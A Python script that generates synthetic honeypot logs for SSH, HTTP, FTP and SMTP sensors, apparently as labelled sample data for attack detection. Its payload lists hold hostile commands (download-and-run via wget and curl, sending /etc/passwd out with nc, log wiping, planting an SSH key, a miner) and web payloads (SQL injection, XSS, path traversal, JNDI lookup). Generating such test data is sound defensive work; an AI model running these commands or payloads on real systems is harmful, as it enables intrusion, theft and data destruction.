"""Writes the synthetic honeypot events that the project ships as data/sample_events.csv.

Usage: python3 tools/sample/make_sample.py [OUT]     (default: data/sample_events.csv; standard library only)

Sessions of four sensors (SSH, HTTP, FTP, SMTP) are drawn and interleaved by time. Nothing is recorded: addresses come
from the documentation ranges, names from the example domains, payloads from the lists below. The same seed gives the
same bytes on every Python from 3.8 on, because only `Random.random`, whose sequence Python promises to keep, is used.

An event is an attack when its name is one of ATTACKS, so a session mixes both classes, and most attack payloads have a
benign twin of the same shape (a failed and a mere login attempt, a command and its answer). What the payload's text
tells is therefore much, never all.
"""

import csv
import datetime
import io
import pathlib
import random
import sys

SEED = 20261123
N_EVENTS = 4000
COLUMNS = ["port", "event", "source_ip", "user_agent", "path", "timestamp", "level", "honeypot_type", "method", "data"]
ATTACKS = {"login_failed", "sqli_attempt", "command", "connect", "mail_from", "rcpt_to", "data"}
START = datetime.datetime(2026, 3, 2, tzinfo=datetime.timezone.utc)
NETWORKS = ["192.0.2", "198.51.100", "203.0.113"]

# Lines of another number of fields than the header's, by the event after which they stand: a line cut by a full disk,
# one of a sensor that does not quote, one of the log rotation.
BROKEN_LINES = {
    900: "2222,login_failed,192.0.2.77,",
    2100: "8080,request,198.51.100.8,Mozilla/5.0,/search,2026-03-05T09:14:02.118000+00:00,INFO,http,GET,{'q': 'a, b, c'}",
    3300: "--- log rotated, 0 events lost ---",
}

USERS = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "pi", "deploy", "www-data", "jenkins", "ftpuser"]
STAFF = ["m.okafor", "j.lindqvist", "a.moreau", "s.tanaka", "r.garcía", "k.nowak", "łukasz", "backup", "o'brien", "anonymous"]
WEAK = ["123456", "password", "admin", "root", "qwerty", "12345678", "letmein", "toor", "1234", "111111", "P@ssw0rd", "admin123"]
STRONG = ["!QAZ2wsx#EDC", "Zx9$kL-22_q", "pa$$w0rd!2026", "7hj;DROP--", "%00%0a%0d", "\u202etoor", "пароль123", "Adm1n@#2026"]
WORDS = ("harbour garden silver weekly report invoice meeting travel coffee green lamp kitchen winter booking shipping order "
         "table music school paper train river mountain ticket blue jacket repair guide market select union update "
         "café naïve crème straße 東京 smörgåsbord").split()
DOMAINS = ["example.com", "example.org", "example.net", "mail.example", "shop.example"]
LURES = ["account-check.example", "secure-login.example", "bank-verify.example", "parcel.example"]
BROWSERS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/131.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 Version/17.5 Safari/605.1.15",
]
SCANNERS = ["sqlmap/1.8#stable", "python-requests/2.32", "Nikto/2.5.0", "curl/8.5.0", "Mozilla/5.0 zgrab/0.x"]
INJECTIONS = [
    "' OR '1'='1", "' OR 1=1-- -", "admin'--", "' UNION SELECT NULL,NULL,NULL-- ", "1; DROP TABLE users;--",
    "') OR ('a'='a", "' AND SLEEP(5)#", "1' ORDER BY 10--+", "' UNION SELECT user,password FROM users--",
    "%27%20OR%201%3D1--", "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>",
    "../../../../etc/passwd", "..%2f..%2fetc%2fshadow", ";cat /etc/passwd|nc 192.0.2.9 4444", "$(id)", "`uname -a`",
    "${jndi:ldap://198.51.100.4/a}", "{{7*7}}", "＇ OR １=１--", "\u001b[2J\u001b[31mowned\u001b[0m",
]
# Searches and forms of ordinary visitors that look a little like the above.
LOOKALIKES = [
    "O'Brien & sons", "rock 'n' roll; 1990-1999", "how to select from a drop-down table", "price < 100 && stock > 0",
    "C:\\Users\\anna\\report.docx", "50% off (today!) #sale", "a=b&c=d", "SELECT your seat; UNION square", "l'été à Nîmes -- 2026",
    "e=mc^2 <3", "x' = f(x) + c; y = 0",
]
COMMANDS = [
    "uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.5/x.sh -O /tmp/x; sh /tmp/x", "id; whoami", "ls -la /", "free -m",
    "cd /tmp && curl -s http://198.51.100.9/b | bash", "echo -e \"\\x6F\\x6B\"", "crontab -l", "ps aux | grep -v grep",
    "rm -rf /var/log/*", "chmod 777 ./a; ./a -o pool.example:3333", "nproc", "history -c", "w", "ls", "pwd", "exit",
    "echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDx' >> ~/.ssh/authorized_keys", "printf '\u001b]0;pwned\u0007'",
]
FTP_FILES = ["/pub/readme.txt", "/pub/2026/report.pdf", "/upload/", "/backup/db-01.tar.gz", "/incoming/photo_0114.jpg", "/"]
REPLIES = ["250 OK", "250 2.1.0 Ok", "250 2.1.5 Ok", "550 5.1.1 User unknown", "451 4.3.0 Try again later"]
SUBJECTS = ["Verify your account", "Invoice overdue", "Parcel held at customs", "Password expires today", "¡Última oportunidad!",
            "Re: meeting", "Weekly report", "Lunch?"]


class Draw:
    """Seeded choices, all made from `Random.random`."""

    def __init__(self, seed):
        self.random = random.Random(seed).random

    def below(self, n):
        return int(self.random() * n)

    def between(self, low, high):
        return low + self.below(high - low + 1)

    def chance(self, p):
        return self.random() < p

    def of(self, items):
        return items[self.below(len(items))]

    def words(self, low, high):
        return " ".join(self.of(WORDS) for _ in range(self.between(low, high)))

    def characters(self, alphabet, n):
        return "".join(self.of(alphabet) for _ in range(n))

    def address(self):
        return f"{self.of(NETWORKS)}.{self.between(1, 254)}"


HEX = "0123456789abcdef"
BASE64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"


def literal(fields):
    """The fields as the sensors log them: a Python dict literal."""
    return repr(fields)


def unescaped(fields):
    """The fields as a careless sensor logs them: control characters and line ends as they came."""
    return "{" + ", ".join(f"'{key}': '{value}'" for key, value in fields.items()) + "}"


def guess(draw):
    """User name and password of a break-in attempt."""
    user = draw.of(USERS) if draw.chance(0.85) else draw.of(STAFF)
    password = draw.of(WEAK) if draw.chance(0.55) else draw.of(STRONG)
    return {"username": user, "password": password}


def ssh(draw):
    port = {"port": 2222}
    yield "connection_opened", "INFO", port, ""
    if draw.chance(0.75):
        client = draw.of(["SSH-2.0-OpenSSH_9.6", "SSH-2.0-libssh_0.10.6", "SSH-2.0-Go", "SSH-2.0-PuTTY_Release_0.81"])
        yield "client_version", "INFO", port, literal({"version": client})
    if draw.chance(0.25):
        user = {"username": draw.of(STAFF), "method": "publickey"}
        if draw.chance(0.5):
            user["fingerprint"] = "SHA256:" + draw.characters(BASE64, 43)
        yield "login_success", "INFO", port, literal(user)
        if draw.chance(0.5):
            yield "session_stats", "INFO", port, literal({"seconds": draw.between(2, 900), "bytes_in": draw.between(200, 90000)})
    else:
        for _ in range(draw.between(1, 5)):
            login = guess(draw)
            if draw.chance(0.35):
                # The attempt is logged on its own; a person's mistyped login looks the same.
                login = login if draw.chance(0.4) else {"username": draw.of(STAFF), "password": draw.of(WORDS)}
                yield "login_attempt", "WARN", port, literal(login)
            else:
                yield "login_failed", "ERROR", port, literal(login)
        if draw.chance(0.35):
            for _ in range(draw.between(1, 4)):
                fields = {"command": draw.of(COMMANDS)}
                yield "command", "WARN", port, unescaped(fields) if draw.chance(0.2) else literal(fields)
    if draw.chance(0.6):
        yield "connection_closed", "INFO", port, ""


def http(draw):
    def request(agents, paths, method):
        return {"port": 8080, "user_agent": draw.of(agents), "path": draw.of(paths), "method": method}

    if draw.chance(0.4):
        for _ in range(draw.between(1, 3)):
            kind = draw.random()
            if kind < 0.4:
                text = draw.of(LOOKALIKES) if draw.chance(0.25) else draw.words(1, 5)
                yield "request", "INFO", request(BROWSERS, ["/search", "/"], "GET"), literal({"q": text, "page": draw.between(1, 30)})
            elif kind < 0.7:
                form = {"name": draw.of(STAFF), "email": f"{draw.of(WORDS)}@{draw.of(DOMAINS)}", "comment": draw.words(3, 18)}
                yield "form_submit", "INFO", request(BROWSERS, ["/contact", "/feedback"], "POST"), literal(form)
            elif kind < 0.85:
                cookie = {"session": draw.characters(HEX, 32), "lang": draw.of(["en", "de", "pl", "ja"])}
                yield "request", "INFO", request(BROWSERS, ["/", "/cart", "/account"], "GET"), literal(cookie)
            else:
                yield "request", "INFO", request(BROWSERS, ["/", "/robots.txt", "/favicon.ico"], "GET"), ""
    else:
        for _ in range(draw.between(1, 6)):
            seen = request(SCANNERS + BROWSERS[:1], ["/admin", "/login", "/wp-login.php", "/search"], "POST")
            text = draw.of(INJECTIONS)
            if draw.chance(0.3):
                fields = {"q": draw.words(1, 3) + text}
            elif draw.chance(0.5):
                fields = {"username": text, "password": text}
            else:
                fields = {"username": draw.of(USERS), "password": text}
            yield "sqli_attempt", "ERROR", seen, unescaped(fields) if draw.chance(0.1) else literal(fields)


def ftp(draw):
    if draw.chance(0.3):
        yield "connect", "INFO", {}, ""
    if draw.chance(0.5):
        yield "banner", "INFO", {}, literal({"sent": f"220 ftp.example FTP server (Version {draw.between(1, 9)}.{draw.between(0, 9)}) ready."})
    if draw.chance(0.6):
        for _ in range(draw.between(1, 4)):
            yield "command", "INFO", {}, literal({"command": "USER", "arg": draw.of(USERS)})
            if draw.chance(0.6):
                yield "login_failed", "WARN", {}, literal(guess(draw))
    else:
        yield "login_success", "INFO", {}, literal({"username": draw.of(STAFF)})
        for _ in range(draw.between(1, 3)):
            file = draw.of(FTP_FILES)
            if draw.chance(0.3):
                yield "command", "INFO", {}, literal({"command": draw.of(["LIST", "RETR", "STOR"]), "path": file})
            yield "transfer", "INFO", {}, literal({"file": file, "bytes": draw.between(10, 9_999_999), "status": "226 ok"})
    if draw.chance(0.5):
        yield "disconnect", "INFO", {}, ""


def smtp(draw):
    sender = f"{draw.of(['alerts', 'admin', 'billing', 'no-reply'])}@{draw.of(LURES)}> size={draw.between(180, 2400)}"
    to = [f"{draw.of(WORDS[:18])}@{draw.of(DOMAINS)}" for _ in range(draw.between(1, 3))]
    if draw.chance(0.6):
        yield "ehlo", "INFO", {}, literal({"hostname": draw.of([f"[{draw.address()}]", f"mx{draw.between(1, 9)}.example"])})
    yield "mail_from", "WARN", {}, literal({"mail_from": sender, "rcpt_to": [], "smtp_response": draw.of(REPLIES)})
    for n in range(1, len(to) + 1):
        yield "rcpt_to", "WARN", {}, literal({"mail_from": sender, "rcpt_to": to[:n], "smtp_response": draw.of(REPLIES)})
    if draw.chance(0.6):
        text = f"From: {sender.split('>')[0]}\nTo: {to[0]}\nSubject: {draw.of(SUBJECTS)}\n\n{draw.words(6, 40)}."
        if draw.chance(0.5):
            text += f"\nhttp://{draw.of(LURES)}/{draw.characters(HEX, 12)}?id={draw.between(1, 99999)}"
        fields = {"mail_from": sender, "message": text}
        yield "data", "ERROR", {}, unescaped(fields) if draw.chance(0.15) else literal(fields)
    if draw.chance(0.7):
        queued = draw.characters(HEX, 12).upper()
        yield "data_response", "INFO", {}, literal({"smtp_response": f"250 2.0.0 Ok: queued as {queued}"})
    if draw.chance(0.6):
        envelope = literal({"mail_from": sender, "rcpt_to": to, "smtp_response": "221 2.0.0 Bye"})
        yield "quit", "INFO", {}, envelope if draw.chance(0.3) else ""


def sample(seed):
    """N_EVENTS rows in order of time, each a dict by column."""
    draw = Draw(seed)
    sessions, rows = [ssh, http, ftp, smtp], []
    while len(rows) < N_EVENTS:
        session = draw.of(sessions)
        at = START + datetime.timedelta(milliseconds=draw.below(7 * 86_400_000))
        common = {"source_ip": draw.address(), "honeypot_type": session.__name__}
        for event, level, seen, data in session(draw):
            at += datetime.timedelta(milliseconds=draw.between(10, 4000))
            stamp = at.isoformat(timespec="milliseconds")
            rows.append({"event": event, "level": level, "timestamp": stamp, "data": data, **common, **seen})
    return sorted(rows[:N_EVENTS], key=lambda row: row["timestamp"])


def main():
    default = pathlib.Path(__file__).parents[2] / "data" / "sample_events.csv"
    out = pathlib.Path(sys.argv[1]) if len(sys.argv) > 1 else default
    text = io.StringIO()
    writer = csv.DictWriter(text, COLUMNS, restval="", lineterminator="\n")
    writer.writeheader()
    for n, row in enumerate(sample(SEED), start=1):
        writer.writerow(row)
        if n in BROKEN_LINES:
            text.write(BROKEN_LINES[n] + "\n")
    out.write_bytes(text.getvalue().encode("utf-8"))


if __name__ == "__main__":
    main()
